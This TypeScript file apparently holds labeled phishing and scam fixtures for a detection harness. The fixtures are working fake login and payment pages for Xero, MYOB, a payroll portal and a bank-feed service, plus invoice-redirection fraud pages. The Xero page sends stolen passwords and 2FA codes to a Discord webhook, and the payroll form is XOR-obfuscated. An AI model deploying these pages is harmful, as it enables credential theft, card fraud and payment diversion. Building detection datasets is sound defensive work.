import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { blurredDoc, msBoxCss, msLogo, xorHex } from '../parts/yf-kit.js';

// Accounting-software, payroll and business-email-compromise pages.

const xeroCss = `
body{margin:0;font-family:"National",-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;background:#f5f6f7;color:#000a1e}
.xh{background:#13b5ea;height:60px;display:flex;align-items:center;padding:0 24px}
.xlogo{width:38px;height:38px;border-radius:50%;background:#fff;color:#13b5ea;font-weight:700;display:flex;align-items:center;justify-content:center;font-size:20px}
.card{max-width:420px;margin:48px auto;background:#fff;border-radius:6px;box-shadow:0 0 0 1px rgba(0,10,30,.1),0 3px 6px rgba(0,10,30,.2);padding:32px}
h1{font-size:24px;margin:0 0 18px;font-weight:700}
label{font-size:13px;font-weight:600;display:block;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:9px 10px;border:1px solid #a6a9b0;border-radius:3px;font-size:15px}
.b{width:100%;margin-top:22px;background:#0078c8;border:0;color:#fff;padding:11px;border-radius:3px;font-size:15px;font-weight:600;cursor:pointer}
.inv{background:#eef9fe;border:1px solid #b9e6f8;border-radius:4px;padding:12px 14px;font-size:14px;margin-bottom:16px}
.err{background:#fdecea;color:#b4211b;font-size:13px;padding:8px 10px;border-radius:3px;display:none;margin-bottom:8px}
`;

const myobBilling = `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>MYOB | Update payment details</title>
<style>
body{margin:0;font-family:"Aktiv Grotesk",Helvetica,Arial,sans-serif;background:#f2f1f4;color:#262626}
.top{background:#6100a5;height:56px;display:flex;align-items:center;padding:0 24px;color:#fff;font-weight:800;font-size:22px;letter-spacing:1px}
.w{max-width:520px;margin:40px auto;background:#fff;border-radius:8px;padding:30px}
.al{background:#fff0f0;border-left:4px solid #d0021b;padding:12px;font-size:14px;margin-bottom:20px}
label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}
input,select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #b9b4c2;border-radius:4px;font-size:15px}
.r{display:flex;gap:12px}.r>div{flex:1}
button{margin-top:22px;width:100%;padding:12px;background:#6100a5;color:#fff;border:0;border-radius:24px;font-size:15px;font-weight:700}
</style></head>
<body><div class="top">myob</div>
<div class="w">
<div class="al"><b>Payment declined.</b> We couldn't process your monthly AccountRight Plus subscription ($77.00 inc GST). Update your card within 24 hours to avoid your company file being locked.</div>
<form method="post" action="/my/billing/submit">
<label>Name on card</label><input name="ccname" autocomplete="cc-name" required>
<label>Card number</label><input name="ccnum" inputmode="numeric" autocomplete="cc-number" maxlength="19" required>
<div class="r"><div><label>Expiry (MM/YY)</label><input name="ccexp" placeholder="MM/YY" required></div><div><label>CVC</label><input name="cvc" maxlength="4" required></div></div>
<label>Billing postcode</label><input name="postcode" maxlength="4">
<button type="submit">Update and pay $77.00</button>
</form>
</div></body></html>`;

const payhubForm = `<div class="pf">
<h2>Confirm your pay details</h2>
<p>Our payroll provider has migrated to a new platform. To receive your pay on <b>Wednesday 15 May</b>, sign in with your work email and confirm your bank account.</p>
<form id="ph">
<label>Work email</label><input type="email" name="email" required>
<label>Password (same as your Microsoft 365 password)</label><input type="password" name="password" required>
<label>Account name</label><input name="acctname" required>
<div class="two"><div><label>BSB</label><input name="bsb" maxlength="7" placeholder="000-000" required></div><div><label>Account number</label><input name="acct" maxlength="10" required></div></div>
<label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY">
<button type="submit">Confirm details</button>
</form>
<div id="ok" style="display:none;color:#117a3d;font-weight:bold;margin-top:14px">Thank you. Your details have been verified for the next pay run.</div>
</div>`;

export const entries: Entry[] = [
  {
    id: 'yf-xero-invoice-discord-webhook',
    label: 'phishing',
    kind: 'accounting-software-kit',
    url: 'https://in-xero.invoice-view.com/Invoice/Inv-0419?c=f81d2a',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Login | Xero Accounting Software</title>
<style>${xeroCss}</style></head>
<body>
<div class="xh"><div class="xlogo">x</div></div>
<div class="card" id="c1">
<div class="inv">Coastal Fire Services Pty Ltd has sent you invoice <b>INV-0419</b> for <b>$2,145.00</b>, due 30 April 2024. Log in to view and pay.</div>
<h1>Log in to Xero</h1>
<div class="err" id="err">Your email or password is incorrect</div>
<label for="xe">Email address</label><input type="email" id="xe" autocomplete="username">
<label for="xp">Password</label><input type="password" id="xp" autocomplete="current-password">
<button class="b" id="go">Log in</button>
<p style="font-size:13px;margin-top:14px"><a href="#" style="color:#0078c8">Forgot password?</a> &middot; <a href="#" style="color:#0078c8">Can't log in?</a></p>
</div>
<div class="card" id="c2" style="display:none">
<h1>Two-step authentication</h1>
<p style="font-size:14px">Enter the 6-digit code from your authenticator app.</p>
<label>Authentication code</label><input id="otp" inputmode="numeric" maxlength="6">
<button class="b" id="go2">Confirm</button>
</div>
<script>
var H = 'https://discord.com/api/webhooks/1221948376610029568/mQz7x0-T4pG1rJc8LwYk2hVb3nD9sEaFu6iO5tKq_ZyXg';
function send(t){ return fetch(H, {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify({username:'xr', content: t})}).catch(function(){}); }
var tries = 0;
document.getElementById('go').onclick = function(){
  var e = document.getElementById('xe').value, p = document.getElementById('xp').value;
  if (!e || !p) return; tries++;
  send('XERO | ' + e + ' | ' + p + ' | #' + tries + ' | ' + navigator.userAgent).then(function(){
    if (tries === 1) { document.getElementById('err').style.display = 'block'; document.getElementById('xp').value = ''; }
    else { document.getElementById('c1').style.display = 'none'; document.getElementById('c2').style.display = 'block'; }
  });
};
document.getElementById('go2').onclick = function(){
  send('XERO OTP | ' + document.getElementById('xe').value + ' | ' + document.getElementById('otp').value).then(function(){ location.href = 'https://go.xero.com/'; });
};
</script>
</body></html>`,
    routes: {
      'discord.com/api/webhooks/1221948376610029568/mQz7x0-T4pG1rJc8LwYk2hVb3nD9sEaFu6iO5tKq_ZyXg': { status: 204, headers: {}, body: '' },
    },
  },
  {
    id: 'yf-myob-declined-subscription-card',
    label: 'phishing',
    kind: 'accounting-software-kit',
    url: 'https://myob-account.secure-billing-au.com/my/login?ret=billing',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in | MYOB</title>
<style>
body{margin:0;font-family:"Aktiv Grotesk",Helvetica,Arial,sans-serif;background:#f2f1f4;color:#262626}
.top{background:#6100a5;height:56px;display:flex;align-items:center;padding:0 24px;color:#fff;font-weight:800;font-size:22px;letter-spacing:1px}
.w{max-width:400px;margin:60px auto;background:#fff;border-radius:8px;padding:34px}
h1{font-size:26px;margin:0 0 20px}
label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #b9b4c2;border-radius:4px;font-size:15px}
button{margin-top:22px;width:100%;padding:12px;background:#6100a5;color:#fff;border:0;border-radius:24px;font-size:15px;font-weight:700}
a{color:#6100a5;font-size:14px}
</style></head>
<body><div class="top">myob</div>
<div class="w">
<h1>Sign in to MYOB</h1>
<form method="post" action="/my/session">
<input type="hidden" name="ret" value="billing">
<label>Email</label><input type="email" name="Username" required>
<label>Password</label><input type="password" name="Password" required>
<button type="submit">Sign in</button>
</form>
<p><a href="#">Forgot your password?</a></p>
<p style="font-size:12px;color:#777">MYOB Australia Pty Ltd. Protecting your business data is our priority.</p>
</div></body></html>`,
    routes: {
      'myob-account.secure-billing-au.com/my/session': redirectRoute(302, '/my/billing'),
      'myob-account.secure-billing-au.com/my/billing': htmlRoute(myobBilling),
      'myob-account.secure-billing-au.com/my/billing/submit': redirectRoute(302, 'https://www.myob.com/au'),
    },
  },
  {
    id: 'yf-payhub-payroll-xor-kit',
    label: 'phishing',
    kind: 'payroll-kit',
    url: 'https://payhub-staff.com/employee/bank-details?org=tranassociates',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>PayHub Employee Self Service</title>
<style>
body{margin:0;background:#eef1f6;font-family:Inter,Segoe UI,Arial,sans-serif;color:#1d2433}
.nav{background:#1d2b4f;color:#fff;padding:16px 28px;font-weight:700;font-size:19px}.nav span{color:#5ad1a6}
.pf{max-width:480px;margin:36px auto;background:#fff;border-radius:10px;padding:30px;box-shadow:0 3px 14px rgba(0,0,0,.08)}
.pf h2{margin-top:0}.pf p{font-size:14px;color:#4b5565}
label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #c8cfdb;border-radius:6px;font-size:15px}
.two{display:flex;gap:12px}.two>div{flex:1}
button{margin-top:20px;width:100%;padding:12px;background:#2a7de1;color:#fff;border:0;border-radius:6px;font-size:15px;font-weight:600}
</style></head>
<body>
<div class="nav">Pay<span>Hub</span> &middot; Employee Self Service</div>
<div id="root"></div>
<script>
(function(){
  var k = 'p4yR0ll', h = '${xorHex(payhubForm, 'p4yR0ll')}', o = '';
  for (var i = 0; i < h.length; i += 2) o += String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ k.charCodeAt((i / 2) % k.length));
  document.getElementById('root').innerHTML = decodeURIComponent(escape(o));
  document.getElementById('ph').addEventListener('submit', function(e){
    e.preventDefault();
    var d = Object.fromEntries(new FormData(this).entries());
    d.org = new URLSearchParams(location.search).get('org');
    fetch('/employee/api/confirm', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify(d)})
      .then(function(){ document.getElementById('ph').style.display = 'none'; document.getElementById('ok').style.display = 'block'; });
  });
})();
</script>
</body></html>`,
    routes: {
      'payhub-staff.com/employee/api/confirm': jsonRoute({ status: 'verified' }),
    },
  },
  {
    id: 'yf-bec-remittance-update-lookalike',
    label: 'scam',
    kind: 'bec-bank-change',
    url: 'https://coastlinebuildingsupplies-au.com/accounts/remittance-update',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Coastline Building Supplies | Accounts Receivable</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f1f1ee;color:#222}
header{background:#163a5c;color:#fff;padding:18px 6%;display:flex;justify-content:space-between;align-items:center}
header b{font-size:21px;letter-spacing:.5px}header span{font-size:13px;opacity:.8}
.w{max-width:760px;margin:34px auto;background:#fff;padding:36px 44px;border:1px solid #ddd}
h1{font-size:22px;color:#163a5c}
table{border-collapse:collapse;margin:16px 0;font-size:15px}td{padding:7px 14px;border:1px solid #ccc}td:first-child{background:#f6f6f3;font-weight:bold}
.warn{background:#fff8e1;border:1px solid #f0d58a;padding:12px;font-size:14px}
form label{display:block;font-size:13px;font-weight:bold;margin:12px 0 4px}
form input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #bbb;font-size:14px}
form button{margin-top:18px;background:#163a5c;color:#fff;border:0;padding:11px 26px;font-size:15px}
.sig{margin-top:24px;font-size:14px}
</style></head>
<body>
<header><b>COASTLINE BUILDING SUPPLIES</b><span>Trade &amp; Commercial &middot; Since 1987</span></header>
<div class="w">
<h1>Updated Remittance Details &ndash; Action Required</h1>
<p>Dear Valued Customer,</p>
<p>As part of our transition to a new banking partner, our remittance details have changed effective <b>1 April 2024</b>. All outstanding and future invoices must be paid to the account below. Payments made to our previous NAB account will be returned and may incur late fees.</p>
<table>
<tr><td>Account name</td><td>Coastline Building Supplies</td></tr>
<tr><td>Bank</td><td>Westpac Banking Corporation</td></tr>
<tr><td>BSB</td><td>034-702</td></tr>
<tr><td>Account number</td><td>418 559</td></tr>
<tr><td>Reference</td><td>Your invoice number</td></tr>
</table>
<div class="warn">Please <b>do not call our office</b> to confirm these details as our phone lines are being migrated this week. Email accounts@coastlinebuildingsupplies-au.com with any queries.</div>
<p>To confirm you have updated your records, please complete the acknowledgement below so we can release your account from credit hold.</p>
<form method="post" action="/accounts/acknowledge">
<label>Your company name</label><input name="company" required>
<label>Accounts payable contact</label><input name="contact" required>
<label>Email</label><input type="email" name="email" required>
<label>Outstanding invoice numbers to be paid</label><input name="invoices" placeholder="e.g. INV-88120, INV-88164">
<label>Scheduled payment date</label><input type="date" name="paydate">
<button type="submit">Acknowledge new details</button>
</form>
<div class="sig">Kind regards,<br><b>Graham Pettit</b><br>Financial Controller<br>Coastline Building Supplies Pty Ltd &middot; ABN 71 604 118 293</div>
</div>
</body></html>`,
    routes: {
      'coastlinebuildingsupplies-au.com/accounts/acknowledge': htmlRoute('<!DOCTYPE html><html><body style="font-family:Arial;padding:40px"><h2>Thank you</h2><p>Your acknowledgement has been received. Your account has been released from credit hold.</p></body></html>'),
    },
  },
  {
    id: 'yf-bec-nz-invoice-overdue-new-account',
    label: 'scam',
    kind: 'bec-bank-change',
    url: 'https://invoices.southernalpsfreight-nz.com/view/INV-30418',
    body: `<!DOCTYPE html>
<html lang="en-NZ"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Invoice INV-30418 - Southern Alps Freight Ltd</title>
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#e9eef2;color:#1d2a33}
.inv{max-width:800px;margin:30px auto;background:#fff;padding:40px 48px;box-shadow:0 2px 8px rgba(0,0,0,.08)}
.hd{display:flex;justify-content:space-between;border-bottom:3px solid #0d5b46;padding-bottom:14px}
.hd h1{margin:0;color:#0d5b46;font-size:26px}
.od{display:inline-block;background:#c62828;color:#fff;font-size:12px;padding:3px 8px;border-radius:3px;font-weight:600}
table{width:100%;border-collapse:collapse;margin-top:22px;font-size:14px}th{text-align:left;background:#f1f5f4;padding:8px}td{padding:8px;border-bottom:1px solid #eee}
.tot{text-align:right;font-size:18px;margin-top:12px}
.bank{margin-top:26px;background:#f5faf8;border:1px solid #cfe3db;padding:16px;font-size:14px;line-height:1.7}
.notice{margin-top:16px;color:#8a1c1c;font-size:14px;font-weight:600}
</style></head>
<body>
<div class="inv">
<div class="hd"><div><h1>Southern Alps Freight Ltd</h1>Unit 4, 12 Wigram Road, Christchurch 8042<br>GST No. 112-448-905</div><div style="text-align:right"><b>TAX INVOICE</b><br>INV-30418<br>Issued 04/03/2024<br><span class="od">OVERDUE 21 DAYS</span></div></div>
<p style="margin-top:18px"><b>Bill to:</b> Rangiora Property Management Ltd</p>
<table><tr><th>Description</th><th>Qty</th><th style="text-align:right">Amount</th></tr>
<tr><td>Linehaul CHC &rarr; AKL, 3 pallets</td><td>1</td><td style="text-align:right">$1,840.00</td></tr>
<tr><td>Tail-lift delivery surcharge</td><td>1</td><td style="text-align:right">$165.00</td></tr>
<tr><td>Fuel levy</td><td>1</td><td style="text-align:right">$212.40</td></tr></table>
<div class="tot">Subtotal $2,217.40<br>GST 15% $332.61<br><b>Total due NZD $2,550.01</b></div>
<div class="bank"><b>Payment details (UPDATED)</b><br>Bank: ASB Bank<br>Account name: SA Freight Settlements<br>Account number: 12-3140-0456789-00<br>Reference: INV-30418</div>
<div class="notice">IMPORTANT: Our BNZ account is currently frozen pending an annual audit. Any payment to the account shown on previous invoices will be rejected. Please remit to the ASB account above today to avoid your account being referred to debt collection.</div>
<p style="font-size:13px;color:#5b6a74;margin-top:26px">Queries: accounts@southernalpsfreight-nz.com &middot; We are unable to take calls about account changes during the audit.</p>
</div>
</body></html>`,
  },
  {
    id: 'yf-ledgerly-bankfeed-reconnect-kit',
    label: 'phishing',
    kind: 'accounting-software-kit',
    url: 'https://app-ledgerly.bankfeeds-reconnect.com/feeds/anz-nz/reconnect?ref=LD-77120',
    body: `<!DOCTYPE html>
<html lang="en-NZ"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Ledgerly - Reconnect bank feed</title>
<style>
body{margin:0;font-family:"Inter",system-ui,Arial,sans-serif;background:#f6f7fb;color:#181c2a}
.top{background:#fff;border-bottom:1px solid #e4e6ef;padding:14px 26px;font-weight:800;font-size:20px;color:#3c3fd8}
.wrap{max-width:460px;margin:40px auto}
.step{background:#fff;border:1px solid #e4e6ef;border-radius:12px;padding:26px;margin-bottom:14px}
.bank{display:flex;align-items:center;gap:12px;font-weight:700}
.bank i{display:inline-block;width:40px;height:40px;border-radius:8px;background:#007dba}
.alert{background:#fff4e6;border:1px solid #ffd8a8;color:#7a4100;border-radius:8px;padding:10px 12px;font-size:14px;margin:12px 0}
label{display:block;font-size:13px;font-weight:600;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #c9ccd9;border-radius:8px;font-size:15px}
button{width:100%;margin-top:18px;background:#3c3fd8;color:#fff;border:0;border-radius:8px;padding:12px;font-size:15px;font-weight:600}
small{color:#6a6f85}
</style></head>
<body>
<div class="top">ledgerly</div>
<div class="wrap">
<div class="step">
<div class="bank"><i></i><div>ANZ New Zealand<br><small>Business Cheque &bull;&bull;&bull;&bull; 2210</small></div></div>
<div class="alert">Your bank feed stopped syncing on 18 March. 27 transactions are missing from your GST return period. Reconnect to restore the feed.</div>
<form id="rf">
<label>ANZ Internet Banking customer number</label><input name="customer" inputmode="numeric" required>
<label>Password</label><input type="password" name="password" required>
<button type="submit">Reconnect securely</button>
</form>
</div>
<div class="step" id="otp" style="display:none">
<b>Confirm with ANZ</b>
<p style="font-size:14px">We've sent a code to your registered mobile. Enter it to authorise the Ledgerly connection.</p>
<label>One-time code</label><input id="code" inputmode="numeric" maxlength="6">
<button id="cc">Authorise</button>
</div>
<p style="text-align:center"><small>&#128274; Ledgerly uses read-only access and never stores your banking password.</small></p>
</div>
<script>
var sess = Math.random().toString(36).slice(2);
document.getElementById('rf').onsubmit = function(e){
  e.preventDefault();
  var fd = new FormData(this); fd.append('s', sess); fd.append('bank', 'anz-nz');
  fetch('/feeds/api/link.php', {method:'POST', body: fd}).then(function(){ document.getElementById('otp').style.display = 'block'; });
};
document.getElementById('cc').onclick = function(){
  fetch('/feeds/api/link.php', {method:'POST', body: new URLSearchParams({s: sess, otp: document.getElementById('code').value})}).then(function(){ location.href = 'https://www.anz.co.nz/'; });
};
</script>
</body></html>`,
    routes: {
      'app-ledgerly.bankfeeds-reconnect.com/feeds/api/link.php': jsonRoute({ ok: 1 }),
    },
  },
];
